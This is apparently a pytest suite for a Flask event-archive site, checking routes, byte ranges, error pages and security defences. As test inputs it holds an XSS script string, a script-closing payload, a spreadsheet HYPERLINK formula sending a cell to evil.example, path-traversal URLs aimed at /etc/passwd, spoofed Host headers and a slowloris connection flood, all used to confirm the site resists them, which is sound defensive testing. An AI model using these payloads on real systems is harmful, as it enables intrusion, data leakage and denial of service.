"""The site through Flask's test client: every route, every error path, security."""

from __future__ import annotations

import csv
import http.client
import io
import json
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from archive.ingest.pipeline import ingest_folder
from archive.store import Archive
from indexer.sync import sync
from web import create_app
from web.context import archive as request_archive

from helpers.archives import copy_archive
from helpers.media import make_exif, make_jpeg, make_xmp

# Every test here runs against both catalog engines (tests/conftest.py).
pytestmark = pytest.mark.engines

EVIL = '<script>alert("x")</script>'


# The tests of this archive are marked slow: it is the sample ingested again, with a file
# of its own in the event, so it cannot be the shared sample archive.
@pytest.fixture(scope="module")
def site_archive(sample: Path, tmp_path_factory: pytest.TempPathFactory,
                 new_archive: Callable[[Path], Path]) -> Path:
    base = tmp_path_factory.mktemp("web")
    event = base / "event"
    shutil.copytree(sample, event)
    make_jpeg(event / "photos" / "evil.jpg", exif=make_exif(artist=EVIL, description=EVIL),
              xmp=make_xmp(title=f"Title {EVIL}"))
    root = new_archive(base / "archive")
    with Archive.open(root) as archive:
        ingest_folder(archive, event, jobs=2, progress=False)
        sync(archive)
    return root


@pytest.fixture(scope="module")
def client(site_archive: Path) -> FlaskClient:
    return create_app(site_archive, {"TESTING": True}).test_client()


def item_id(client: FlaskClient, query: str) -> str:
    return client.get("/api/search", query_string={"q": query}).json["results"][0]["id"]


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.scripts: list[dict] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attrs = dict(attrs)
        if tag == "a" and attrs.get("href"):
            self.links.append(attrs["href"])
        if tag == "script":
            self.scripts.append(attrs)


def parse(html: str) -> Links:
    parser = Links()
    parser.feed(html)
    return parser


@pytest.mark.slow
def test_search_page_with_facets_and_pagination(client: FlaskClient) -> None:
    page = client.get("/", query_string={"q": "Peter Keller"})
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<strong>16</strong> items" in html
    links = parse(html).links
    assert any("session:s2" in link for link in links)
    assert any("page=2" in link for link in links) is False  # 16 fit one page of 24
    second = client.get("/", query_string={"q": "event:florence-2019", "page": "2"})
    assert "page 2 of 3" in second.get_data(as_text=True)
    empty = client.get("/").get_data(as_text=True)
    assert "<strong>60</strong> items" in empty


@pytest.mark.slow
def test_did_you_mean_on_the_page(client: FlaskClient) -> None:
    html = client.get("/", query_string={"q": "bramantti"}).get_data(as_text=True)
    assert "Did you mean" in html and "bramanti" in html


@pytest.mark.slow
def test_item_page_shows_credit_player_transcript_and_jsonld(client: FlaskClient) -> None:
    video = item_id(client, "kind:video")
    html = client.get(f"/items/{video}").get_data(as_text=True)
    assert "<video" in html and f"/media/{video}/original" in html
    assert "Video: Barry Guckian / Northern and Western Regional Assembly (TRINNO)" in html
    assert 'data-start="3.0"' in html
    start = html.index('<script type="application/ld+json">') + len(
        '<script type="application/ld+json">')
    data = json.loads(html[start:html.index("</script>", start)])
    assert data["@type"] == "VideoObject"
    assert data["creator"]["name"] == "Barry Guckian"
    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/"


def test_an_item_page_names_its_sessions_by_title(client: FlaskClient) -> None:
    photo = item_id(client, "session:s2 kind:photo")
    html = client.get(f"/items/{photo}").get_data(as_text=True)
    assert ">Interreg Europe and Industrial Modernisation</a>" in html  # not a bare "s2"
    assert "(s2, time)" in html


def test_a_video_makers_page_says_photos_and_videos(client: FlaskClient) -> None:
    page = client.get("/events/florence-2019/people/barry-guckian").get_data(as_text=True)
    assert "Photos and videos by Barry Guckian: 1 item" in page
    assert "Photos by Chiara Neri: " in client.get(
        "/events/florence-2019/people/chiara-neri").get_data(as_text=True)


@pytest.mark.slow
def test_event_session_person_and_credits_pages(client: FlaskClient) -> None:
    event = client.get("/events/florence-2019").get_data(as_text=True)
    assert "Interreg Europe and Industrial Modernisation" in event
    assert "/events/florence-2019/sessions/s2" in event
    assert "Sala Michelangelo" in event and "Sala Donatello" in event
    session = client.get("/events/florence-2019/sessions/s2").get_data(as_text=True)
    assert "15 items" in session and "Péter Keller" in session
    person = client.get("/events/florence-2019/people/peter-keller").get_data(as_text=True)
    assert "Hungarian Ministry of Finance" in person and "speaker of" in person
    credits = client.get("/credits", query_string={"q": "kind:video"}).get_data(as_text=True)
    assert "Barry Guckian" in credits
    assert "/api/credits?q=kind:video&amp;format=csv" in credits
    assert client.get("/events").status_code == 200


@pytest.mark.slow
def test_api_routes(client: FlaskClient) -> None:
    result = client.get("/api/search", query_string={"q": "keller"}).json
    assert result["total"] == 16
    assert set(result["facets"]) == {"event", "session", "person", "kind", "creator", "camera"}
    item = client.get(f"/api/items/{result['results'][0]['id']}").json
    assert item["path"] == item["relpath"]
    assert not item["path"].startswith("/")
    assert client.get("/api/events").json[0]["id"] == "florence-2019"
    session = client.get("/api/sessions/s2").json
    assert session["title"] == "Interreg Europe and Industrial Modernisation"
    assert len(session["items"]) == 15
    person = client.get("/api/people/peter-keller").json
    assert person["items"][0]["relation"] == "shown"
    csv = client.get("/api/credits", query_string={"q": "kind:video", "format": "csv"})
    assert csv.mimetype == "text/csv"
    assert "attachment" in csv.headers["Content-Disposition"]
    assert "Barry Guckian" in csv.get_data(as_text=True)
    assert client.get("/api/credits", query_string={"format": "jsonld"}).json["@context"]


@pytest.mark.slow
def test_no_absolute_server_path_leaks(client: FlaskClient, site_archive: Path) -> None:
    body = client.get("/api/search", query_string={"q": "", "limit": "200"}).get_data(
        as_text=True)
    assert str(site_archive.parent) not in body


def fetch(client: FlaskClient, url: str, **headers: str) -> tuple[int, dict, bytes]:
    """GET and close the response (file responses hold the file open until closed)."""
    with client.get(url, headers=headers) as response:
        return response.status_code, dict(response.headers), response.get_data()


@pytest.mark.slow
def test_files_by_id_with_caching_and_ranges(client: FlaskClient) -> None:
    photo = item_id(client, "kind:photo")
    status, headers, _ = fetch(client, f"/media/{photo}/small")
    assert status == 200
    assert headers["Content-Type"] == "image/jpeg"
    assert "immutable" in headers["Cache-Control"]
    assert fetch(client, f"/media/{photo}/small", **{"If-None-Match": headers["ETag"]})[0] == 304
    video = item_id(client, "kind:video")
    _, _, whole = fetch(client, f"/media/{video}/original")
    size = len(whole)
    status, headers, part = fetch(client, f"/media/{video}/original",
                                  Range=f"bytes={size // 2}-")
    assert status == 206
    assert headers["Content-Range"] == f"bytes {size // 2}-{size - 1}/{size}"
    assert part == whole[size // 2:]
    assert fetch(client, f"/media/{video}/original", Range=f"bytes={size * 2}-")[0] == 416


@pytest.mark.slow
@pytest.mark.parametrize("header", ["bytes=0-0,5-10", "bytes=0-0, 99999999-", "items=0-10",
                                    "bytes=abc", "bytes=5-2", "bytes=", "0-10"])
def test_ranges_to_ignore_get_the_whole_file(client: FlaskClient, header: str) -> None:
    """RFC 9110: a Range of another unit, or that does not parse, is ignored; several
    ranges would need a multipart answer, so they get the whole file as well."""
    photo = item_id(client, "kind:photo")
    for url in (f"/media/{photo}/original", f"/media/{photo}/small", "/static/app.js"):
        _, _, whole = fetch(client, url)
        status, headers, body = fetch(client, url, Range=header)
        assert (status, body) == (200, whole), url
        assert "Content-Range" not in headers


@pytest.mark.parametrize("url", [
    "/media/../../etc/passwd", "/media/%2e%2e%2f%2e%2e%2fetc%2fpasswd/original",
    "/media/" + "0" * 64 + "/original", "/media/abc/original", "/items/../../etc/passwd",
    "/items/" + "f" * 64, "/static/../catalog.sqlite3", "/static/%2e%2e/catalog.sqlite3",
    "/events/..%2f..%2fetc", "/events/florence-2019/sessions/nope",
    "/events/florence-2019/people/..", "/api/items/xyz", "/api/sessions/nope",
    "/thumbs/00/x.jpg", "/catalog.sqlite3",
])
@pytest.mark.slow
def test_traversal_and_unknown_ids_are_4xx(client: FlaskClient, url: str) -> None:
    status, _, body = fetch(client, url)
    assert 400 <= status < 500
    assert b"root:" not in body and b"SQLite format" not in body


@pytest.mark.slow
def test_bad_queries_are_400_not_500(client: FlaskClient) -> None:
    assert client.get("/", query_string={"q": "taken:2019-13"}).status_code == 400
    assert client.get("/api/search", query_string={"q": "taken:soon"}).status_code == 400
    assert client.get("/api/search", query_string={"q": "x" * 5000}).status_code == 400
    assert client.get("/api/search", query_string={"q": "keller", "page": "x"}).status_code == 400
    assert client.get("/api/search", query_string={"sort": "random"}).status_code == 400
    assert client.get("/api/credits", query_string={"format": "pdf"}).status_code == 400
    assert client.get("/api/search", query_string={"q": '"((unbalanced'}).status_code == 200


@pytest.mark.slow
def test_every_metadata_string_is_escaped(client: FlaskClient) -> None:
    evil = item_id(client, "file:evil")
    for url in (f"/items/{evil}", "/?q=file:evil", "/credits?q=file:evil"):
        html = client.get(url).get_data(as_text=True)
        assert EVIL not in html, url
        assert "&lt;script&gt;" in html, url
        scripts = parse(html).scripts
        assert all(s.get("src") or s.get("type") == "application/ld+json" for s in scripts)


@pytest.mark.slow
def test_security_headers(client: FlaskClient) -> None:
    response = client.get("/")
    csp = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.slow
def test_site_never_writes(site_archive: Path) -> None:
    before = {p: p.stat().st_mtime_ns for p in site_archive.rglob("*") if p.is_file()}
    client = create_app(site_archive, {"TESTING": True}).test_client()
    for url in ("/", "/?q=keller", "/events/florence-2019", "/credits", "/api/events"):
        client.get(url)
    for method in (client.post, client.put, client.delete):
        assert method("/").status_code == 405
    after = {p: p.stat().st_mtime_ns for p in site_archive.rglob("*") if p.is_file()
             and not p.name.endswith(("-shm", "-wal"))}
    assert {p: m for p, m in before.items() if not p.name.endswith(("-shm", "-wal"))} == after


def test_missing_index_is_503_not_500(tmp_path: Path) -> None:
    root = tmp_path / "archive"
    Archive.open(root).close()
    client = create_app(root, {"TESTING": True}).test_client()
    assert client.get("/api/search", query_string={"q": "x"}).status_code == 503


@pytest.fixture(scope="module")
def small_archive(tmp_path_factory: pytest.TempPathFactory,
                  new_archive: Callable[[Path], Path]) -> Path:
    base = tmp_path_factory.mktemp("small")
    make_jpeg(base / "event" / "a.jpg")
    with Archive.open(new_archive(base / "archive")) as archive:
        ingest_folder(archive, base / "event", jobs=1, progress=False)
        sync(archive)
    return base / "archive"


def _schema(text: str) -> object:
    return lambda index: (index.resolve() / "SCHEMA").write_text(text)


@pytest.mark.parametrize(("damage", "said"), [
    (_schema("99999999999999999999\n"), "made by a newer version of event-archive"),
    (_schema("1\n"), "made by an older version of event-archive"),
    (_schema("two\n"), "its schema version cannot be read"),
    (lambda index: shutil.rmtree(index.resolve()), "the index folder it names is missing"),
], ids=["newer", "older", "unreadable", "generation-gone"])
def test_an_unusable_index_is_a_503_saying_what_is_wrong(small_archive: Path, tmp_path: Path,
                                                         damage: object, said: str) -> None:
    root = tmp_path / "archive"
    copy_archive(small_archive, root)
    damage(root / "index")
    client = create_app(root, {"TESTING": True}).test_client()
    answer = client.get("/api/search", query_string={"q": "a"})
    assert answer.status_code == 503
    error = answer.get_json()["error"]
    assert f"cannot be used: {said}" in error and "'event-archive reindex'" in error
    assert "not built" not in error and str(tmp_path) not in error


def test_serve_rebuilds_an_index_an_older_version_made(small_archive: Path, tmp_path: Path,
                                                       live_server: Callable) -> None:
    root = tmp_path / "archive"
    copy_archive(small_archive, root)
    _schema("3\n")(root / "index")
    server = live_server(root)
    status, _headers, body = server.get("/api/search?q=")
    assert status == 200 and json.loads(body)["total"] == 1
    assert "rebuilding the search index: made by an older version" in server.output()


def test_create_app_without_archive_is_a_clear_error(tmp_path: Path) -> None:
    from archive.errors import ArchiveError

    with pytest.raises(ArchiveError, match="no archive here"):
        create_app(tmp_path / "none")


@pytest.mark.slow
def test_event_pages_show_media_counts(client: FlaskClient) -> None:
    events = client.get("/api/events").json
    total = events[0]["items"]
    s2 = next(s for s in events[0]["sessions"] if s["id"] == "s2")
    assert (total, s2["items"]) == (60, 15)
    listing = client.get("/events").get_data(as_text=True)
    page = client.get("/events/florence-2019").get_data(as_text=True)
    for html in (listing, page):
        assert "built-in method" not in html
    assert "· 60 items" in listing
    assert f"All {total} items" in page
    s2_block = page[page.index('id="session-s2"'):]
    assert f">{s2['items']} items</a>" in s2_block[:s2_block.index("</article>")]


@pytest.mark.slow
def test_camera_shown_without_repeating_the_make(client: FlaskClient) -> None:
    for query, label in (("camera:canon", "Canon EOS 80D"), ("camera:nikon", "NIKON D750")):
        html = client.get(f"/items/{item_id(client, query)}").get_data(as_text=True)
        assert f"<th>Camera</th><td>{label}</td>" in html
        facets = client.get("/api/search", query_string={"q": query}).json["facets"]
        assert list(facets["camera"]) == [label]


@pytest.mark.slow
def test_download_content_types_name_the_charset_once(client: FlaskClient) -> None:
    for fmt, kind in (("csv", "text/csv"), ("html", "text/html")):
        response = client.get("/api/credits", query_string={"q": "kind:video", "format": fmt})
        assert response.headers["Content-Type"] == f"{kind}; charset=utf-8"


NEWLINE_NAME = 'Pérez\n"talk".jpg'
SCRIPT_END = "Closing </script><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def tricky_archive(tmp_path_factory: pytest.TempPathFactory,
                   new_archive: Callable[[Path], Path]) -> Path:
    """Names and metadata as people and cameras write them, awkward for the site."""
    base = tmp_path_factory.mktemp("tricky")
    event = base / "event"
    make_jpeg(event / NEWLINE_NAME, exif=make_exif(artist=FORMULA))
    make_jpeg(event / "closing.jpg", size=(70, 50), xmp=make_xmp(title=SCRIPT_END))
    root = new_archive(base / "archive")
    with Archive.open(root) as archive:
        ingest_folder(archive, event, jobs=1, progress=False)
        sync(archive)
    return root


@pytest.fixture(scope="module")
def tricky(tricky_archive: Path) -> FlaskClient:
    return create_app(tricky_archive, {"TESTING": True}).test_client()


def test_download_of_a_name_with_a_newline(tricky: FlaskClient) -> None:
    photo = item_id(tricky, "file:perez")
    status, headers, body = fetch(tricky, f"/media/{photo}/original")
    assert status == 200 and body.startswith(b"\xff\xd8")
    disposition = headers["Content-Disposition"]
    assert "\n" not in disposition
    assert disposition == ('inline; filename="P_rez__talk_.jpg"; '
                           "filename*=UTF-8''P%C3%A9rez%0A%22talk%22.jpg")


def test_jsonld_urls_never_come_from_the_host_header(tricky: FlaskClient,
                                                     tricky_archive: Path) -> None:
    photo = item_id(tricky, "file:closing")
    evil = {"Host": "attacker.test"}
    html = tricky.get(f"/items/{photo}", headers=evil).get_data(as_text=True)
    assert "attacker.test" not in html
    assert jsonld_of(html)["contentUrl"] == f"/media/{photo}/original"
    export = tricky.get("/api/credits", query_string={"format": "jsonld"}, headers=evil)
    assert "attacker.test" not in export.get_data(as_text=True)
    assert {o["contentUrl"] for o in export.json["@graph"]} >= {f"/media/{photo}/original"}
    configured = create_app(tricky_archive, {"TESTING": True,
                                             "BASE_URL": "https://archive.example.org/"})
    html = configured.test_client().get(f"/items/{photo}", headers=evil).get_data(
        as_text=True)
    assert jsonld_of(html)["contentUrl"] == (
        f"https://archive.example.org/media/{photo}/original")


@pytest.mark.parametrize("host", ["a" * 64, "a..b", ".."])
def test_a_host_header_naming_no_host_is_a_400_on_every_route(tricky: FlaskClient,
                                                             host: str) -> None:
    photo = item_id(tricky, "file:closing")
    for url in ("/", "/events", f"/items/{photo}", "/credits", f"/media/{photo}/small",
                "/static/style.css", "/api/search?q=a", "/api/events"):
        answer = tricky.get(url, headers={"Host": host})
        assert answer.status_code == 400, (url, answer.status_code)  # was a 500


def test_a_doubled_slash_is_no_redirect_to_the_host_header(tricky: FlaskClient) -> None:
    for url in ("/static//etc/passwd", "/items//x"):
        answer = tricky.get(url, headers={"Host": "evil.example"})
        assert answer.status_code == 404, url
        assert "Location" not in answer.headers


def jsonld_of(html: str) -> dict:
    start = html.index('<script type="application/ld+json">') + len(
        '<script type="application/ld+json">')
    return json.loads(html[start:html.index("</script>", start)])


def test_jsonld_export_cannot_close_a_script_element(tricky: FlaskClient) -> None:
    body = tricky.get("/api/credits", query_string={"format": "jsonld"}).get_data(
        as_text=True)
    assert "</script>" not in body and "<script" not in body
    assert SCRIPT_END in {o["name"] for o in json.loads(body)["@graph"]}


def test_site_csv_neutralises_formulas(tricky: FlaskClient) -> None:
    text = tricky.get("/api/credits", query_string={"format": "csv"}).get_data(as_text=True)
    creators = {row["creator"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert f"'{FORMULA}" in creators


def test_unsatisfiable_range_names_the_size(tricky: FlaskClient) -> None:
    photo = item_id(tricky, "file:closing")
    size = len(fetch(tricky, f"/media/{photo}/original")[2])
    status, headers, _ = fetch(tricky, f"/media/{photo}/original", Range=f"bytes={size}-")
    assert status == 416
    assert headers["Content-Range"] == f"bytes */{size}"


@pytest.mark.parametrize("name", ["original", "small"])
def test_a_suffix_longer_than_the_file_gets_all_of_it(tricky: FlaskClient, name: str) -> None:
    photo = item_id(tricky, "file:closing")
    whole = fetch(tricky, f"/media/{photo}/{name}")[2]
    status, headers, body = fetch(tricky, f"/media/{photo}/{name}",
                                  Range=f"bytes=-{len(whole) + 1}")
    assert (status, body) == (206, whole)  # RFC 9110 14.1.2; it was a 416
    assert headers["Content-Range"] == f"bytes 0-{len(whole) - 1}/{len(whole)}"
    status, _, body = fetch(tricky, f"/media/{photo}/{name}", Range="bytes=-5")
    assert (status, body) == (206, whole[-5:])


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def answer(port: int, url: str, timeout: float) -> tuple[int, str]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request("GET", url)
        response = conn.getresponse()
        return response.status, response.read().decode()
    finally:
        conn.close()


@contextmanager
def served(root: Path, *options: str) -> Iterator[int]:
    """A real `event-archive serve` on a free loopback port, answering when entered."""
    port = free_port()
    log = root.parent / f"serve-{port}.log"
    with log.open("wb") as out:
        server = subprocess.Popen([sys.executable, "-m", "archive", "--archive", str(root),
                                   "serve", "--port", str(port), "--workers", "1", *options],
                                  stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                answer(port, "/api/events", 5)
                break
            except OSError:
                if server.poll() is not None or time.monotonic() > deadline:
                    raise AssertionError(log.read_text()) from None
                time.sleep(0.1)  # polling for the server to listen
        yield port
    finally:
        server.terminate()
        server.wait(30)


@pytest.mark.slow
def test_idle_connections_do_not_stop_the_site(tricky_archive: Path) -> None:
    with Archive.open(tricky_archive, readonly=True) as opened:
        item = opened.catalog.query("SELECT id FROM items WHERE relpath = 'closing.jpg'")[0][0]
    with served(tricky_archive, "--base-url", "https://archive.example.org") as port:
        idle = []
        try:
            for _ in range(400):  # slowloris: connections that never finish a request
                sock = socket.create_connection(("127.0.0.1", port), timeout=5)
                sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
                idle.append(sock)
            status, html = answer(port, f"/items/{item}", timeout=10)
        finally:
            for sock in idle:
                sock.close()
    assert status == 200
    assert jsonld_of(html)["contentUrl"] == f"https://archive.example.org/media/{item}/original"


CONGRESS = """
[event]
id = "congress"
title = "Congress"
date = 2019-03-19

[[people]]
id = "keller"
name = "Péter Keller"

[[people]]
id = "pini"
name = "Roberto Pini"

[[sessions]]
id = "s1"
title = "Opening"
start = 09:00
end = 10:00
moderators = ["pini"]
speakers = ["keller"]
"""


def grow_programme(root: Path, count: int) -> None:
    """Add `count` sessions, each with a speaker of its own, as a large congress has."""
    people = [{"event_id": "congress", "id": f"p{n}", "name": f"Person {n}",
               "data": json.dumps({"id": f"p{n}", "name": f"Person {n}"})}
              for n in range(count)]
    sessions = [{"event_id": "congress", "id": f"x{n}", "title": f"Talk {n}",
                 "day": "2019-03-20", "start": "09:00", "end": "10:00", "room": f"R{n}",
                 "data": json.dumps({"id": f"x{n}", "moderators": [], "speakers": [f"p{n}"],
                                     "description": None})} for n in range(count)]
    with Archive.open(root) as archive, archive.catalog.transaction():
        archive.catalog.db.executemany("INSERT INTO people VALUES (:event_id, :id, :name, "
                                       ":data)", people)
        archive.catalog.db.executemany(
            "INSERT INTO sessions VALUES (:event_id, :id, :title, :day, :start, :end, "
            ":room, :data)", sessions)


def sqlite_work(root: Path, urls: list[str]) -> dict[str, int]:
    """Thousands of SQLite VM instructions each page costs (deterministic, unlike time)."""
    app = create_app(root, {"TESTING": True})
    steps = [0]

    def count() -> int:
        steps[0] += 1
        return 0

    @app.before_request
    def watch() -> None:
        request_archive().catalog.db.set_progress_handler(count, 1000)

    client, work = app.test_client(), {}
    for url in urls:
        steps[0] = 0
        response = client.get(url)
        assert response.status_code == 200, url
        work[url] = steps[0]
    return work


def test_session_pages_load_only_their_session(tmp_path: Path) -> None:
    event = tmp_path / "event"
    (event / "s1").mkdir(parents=True)
    (event / "event.toml").write_text(CONGRESS, encoding="utf-8")
    make_jpeg(event / "s1" / "a.jpg", exif=make_exif())
    root = tmp_path / "archive"
    with Archive.open(root) as archive:
        ingest_folder(archive, event, jobs=1, progress=False)
    urls = ["/events/congress/sessions/s1", "/api/sessions/s1"]
    small = sqlite_work(root, urls)
    grow_programme(root, 5000)
    large = sqlite_work(root, urls)
    for url in urls:
        assert large[url] <= small[url] + 5, (url, small[url], large[url])
    client = create_app(root, {"TESTING": True}).test_client()
    session = client.get("/api/sessions/s1").json
    assert session["items"] and session["speakers"] == [{"id": "keller", "name": "Péter Keller"}]
    assert session["moderators"] == [{"id": "pini", "name": "Roberto Pini"}]
    page = client.get("/events/congress/sessions/s1").get_data(as_text=True)
    assert "Péter Keller" in page and "Roberto Pini" in page and "1 item" in page
    person = client.get("/api/people/p4321").json
    assert person["roles"] == [{"session": "x4321", "title": "Talk 4321", "role": "speaker"}]
    keller = client.get("/events/congress/people/keller").get_data(as_text=True)
    assert "speaker of" in keller and "Opening" in keller


@pytest.mark.slow
def test_an_unexpected_failure_is_a_page_of_ours_without_a_traceback(
        site_archive: Path) -> None:
    app = create_app(site_archive)  # not TESTING: errors are answered, not raised

    def broken() -> str:
        raise RuntimeError("secret detail /srv/archive")

    app.add_url_rule("/broken", view_func=broken)
    app.add_url_rule("/api/broken", view_func=broken, endpoint="api_broken")
    page = app.test_client().get("/broken")
    assert page.status_code == 500 and page.mimetype == "text/html"
    body = page.get_data(as_text=True)
    assert "Event archive" in body and "secret detail" not in body and "Traceback" not in body
    api = app.test_client().get("/api/broken")
    assert api.status_code == 500 and api.json["status"] == 500
    assert "secret" not in api.get_data(as_text=True)


def test_a_duplicate_in_another_event_folder_shows_only_its_name() -> None:
    from web.lookups import public

    item = {"event": "ev", "relpath": "b.jpg",
            "duplicates": ["/data/ev/sub/b.jpg", "/data/ev2/secret-name.jpg", "rel.jpg"]}
    assert public(item, {"ev": "/data/ev"})["duplicates"] == [
        "sub/b.jpg", "secret-name.jpg", "rel.jpg"]
